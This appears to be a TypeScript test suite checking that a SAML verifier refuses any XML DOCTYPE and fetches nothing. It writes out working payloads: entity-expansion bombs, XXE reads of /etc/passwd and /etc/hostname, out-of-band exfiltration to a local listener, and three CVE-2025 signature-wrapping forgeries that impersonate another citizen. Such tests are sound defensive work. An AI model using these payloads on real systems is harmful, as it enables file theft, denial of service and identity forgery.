import { createServer, type Server } from 'node:http'
import { attempt, everyWay, expectUnreadable, type Forgery, responseWays } from '../testkit/forge.ts'
import { citizen } from '../testkit/mint.ts'
import { inText, swap } from '../testkit/surgery.ts'
import { startTarget, type Target } from '../testkit/target.ts'

/*
 * A-032, A-034 to A-038: document type declarations, and what has been built on them. Nothing of a DTD is read, so
 * whatever stands in it is refused as XML_DOCTYPE; and nothing in it is ever fetched.
 */

let target: Target
let listener: Server
let outside: string
const fetched: string[] = []

beforeAll(async () => {
  listener = createServer((request, response) => {
    fetched.push(request.url ?? '')
    response.end('<!ENTITY fetched "fetched">')
  })
  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve))
  const address = listener.address()
  outside = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}`
  target = await startTarget()
}, 60_000)
afterAll(async () => {
  listener.close()
  await target.stop()
})

/** A declaration in front, and a reference in the Issuer and in an attribute, after signing. */
const withEntity = (doctype: (outside: string) => string): Forgery => ({
  octets: (signed) => doctype(outside) + inText('saml2:Issuer', (text) => `${text}&x;`)(signed),
})

const without = (doctype: (outside: string) => string): Forgery => ({ octets: (signed) => doctype(outside) + signed })

const tenfold = (name: string) => `&${name};`.repeat(10)
const laughs = Array.from({ length: 9 }, (_, i) => `<!ENTITY l${i + 1} "${tenfold(`l${i}`)}">`).join('')

const attacks: readonly (readonly [title: string, forgery: Forgery])[] = [
  ['A-032 a DOCTYPE', without(() => '<!DOCTYPE r>')],
  ['A-032 a DOCTYPE after the XML declaration', without(() => '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE r>')],
  ['A-032 a DOCTYPE with an empty internal subset', without(() => '<!DOCTYPE r []>')],
  ['A-032 a DOCTYPE after the root', { octets: (signed) => `${signed}<!DOCTYPE r>` }],
  ['A-032 a DOCTYPE inside the root', { octets: swap('<saml2:Issuer', '<!DOCTYPE r><saml2:Issuer') }],
  ['A-034 a billion laughs', withEntity(() => `<!DOCTYPE r [<!ENTITY l0 "lol">${laughs}<!ENTITY x "&l9;">]>`)],
  [
    'A-034 quadratic growth',
    withEntity(() => `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(20_000)}"><!ENTITY x "${'&a;'.repeat(2_000)}">]>`),
  ],
  [
    'A-034 laughs by parameter entities',
    withEntity(
      () =>
        `<!DOCTYPE r [<!ENTITY % a "<!ENTITY x 'x'>"><!ENTITY % b "&#37;a;&#37;a;&#37;a;"><!ENTITY % c "&#37;b;&#37;b;">%c;]>`,
    ),
  ],
  ['A-034 an entity that holds itself', withEntity(() => '<!DOCTYPE r [<!ENTITY x "&y;"><!ENTITY y "&x;">]>')],
  ['A-035 a file', withEntity(() => '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>')],
  ['A-035 a place on the network', withEntity((at) => `<!DOCTYPE r [<!ENTITY x SYSTEM "${at}/entity">]>`)],
  ['A-035 a public name', withEntity((at) => `<!DOCTYPE r [<!ENTITY x PUBLIC "-//X//EN" "${at}/public">]>`)],
  ['A-035 an external subset', without((at) => `<!DOCTYPE r SYSTEM "${at}/subset">`)],
  ['A-035 a public external subset', without((at) => `<!DOCTYPE r PUBLIC "-//X//EN" "${at}/subset">`)],
  ['A-035 a parameter entity', without((at) => `<!DOCTYPE r [<!ENTITY % p SYSTEM "${at}/parameter"> %p;]>`)],
  [
    'A-035 a file sent out of band',
    without(
      (at) => `<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % d SYSTEM "${at}/band"> %d; %send;]>`,
    ),
  ],
  [
    'A-035 a file in an error message',
    without(
      () =>
        `<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e "<!ENTITY &#37; g SYSTEM 'file:///x/%f;'>"> %e; %g;]>`,
    ),
  ],
  [
    'A-035 an entity in an attribute',
    {
      octets: (signed) =>
        `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>${swap('Version="2.0"', 'Version="&x;"')(signed)}`,
    },
  ],
  [
    'A-035 an unparsed entity',
    without((at) => `<!DOCTYPE r [<!NOTATION n SYSTEM "${at}/n"><!ENTITY x SYSTEM "${at}/u" NDATA n>]>`),
  ],
  ['A-035 a conditional section', without((at) => `<!DOCTYPE r SYSTEM "${at}/s" [<![INCLUDE[<!ENTITY x "x">]]>]>`)],
  ['A-035 a default attribute', without(() => '<!DOCTYPE r [<!ATTLIST r ID CDATA "_x">]>')],
]

describe.each(everyWay)('%s', (way) => {
  test.each(attacks)('%s is refused', async (_, forgery) => {
    await expectUnreadable(await attempt(target, way, forgery), 'XML_DOCTYPE')
  })
})

/** What the attacker would like to be read instead of what was signed: the same message about somebody else. */
const somebodyElse = (original: string): string =>
  original
    .replace(/<ds:Signature .*?<\/ds:Signature>/s, '')
    .replaceAll(citizen.PersonIdentifier, '66666666E')
    .replaceAll(citizen.CurrentFamilyName, 'Evil')
const signatureOf = (signed: string): string => /<ds:Signature .*?<\/ds:Signature>/s.exec(signed)?.[0] ?? ''
const bare = (signed: string): string => signed.replace(signatureOf(signed), '')
const idOf = (text: string): string => /\bID="([^"]+)"/.exec(text)?.[1] ?? ''

/*
 * The three of 2025: two parsers, or one parser asked in two ways, see different documents. Each keeps a signature that
 * verifies over the original, and shows an evil message to whoever reads it the other way.
 */
const differentials: readonly (readonly [title: string, forgery: Forgery])[] = [
  [
    'A-036 the evil ID is an entity, the original is in ds:Object (CVE-2025-23369)',
    {
      octets: (signed) => {
        const kept = signatureOf(signed).replace(
          '</ds:Signature>',
          `<ds:Object>${bare(signed)}</ds:Object></ds:Signature>`,
        )
        const evil = somebodyElse(signed).replace(`ID="${idOf(signed)}"`, 'ID="&e;"')
        return `<!DOCTYPE r [<!ENTITY e "${idOf(signed)}">]>${evil.replace('</saml2:Issuer>', `</saml2:Issuer>${kept}`)}`
      },
    },
  ],
  [
    'A-037 the namespace of a second Signature is a default of the DTD (CVE-2025-25292)',
    {
      octets: (signed) => {
        const unprefixed = signatureOf(signed)
          .replaceAll(/<(\/?)ds:/g, '<$1')
          .replace(/ xmlns:ds="[^"]*"/, '')
        const doctype =
          '<!DOCTYPE r [<!ATTLIST Signature xmlns CDATA #FIXED "http://www.w3.org/2000/09/xmldsig#" xmlns CDATA "block">]>'
        const detail = `<saml2p:StatusDetail>${unprefixed}${bare(signed)}</saml2p:StatusDetail></saml2p:Status>`
        return doctype + somebodyElse(signed).replace('</saml2p:Status>', detail)
      },
    },
  ],
  [
    'A-038 one parser ends the DOCTYPE where the other sees a comment (CVE-2025-25291)',
    {
      octets: (signed) => {
        const evil = somebodyElse(signed).replace(/<\/saml2p:Response>$/, '')
        return `<!DOCTYPE response SYSTEM 'x"><!--'>${evil}<![CDATA[-->${signed}<!--]]>--></saml2p:Response>`
      },
    },
  ],
]

describe.each(responseWays)('%s', (way) => {
  test.each(differentials)('%s: is refused', async (_, forgery) => {
    await expectUnreadable(await attempt(target, way, forgery), 'XML_DOCTYPE')
  })
})

test('A-035 nothing was fetched by any of these', () => {
  expect(fetched).toEqual([])
})
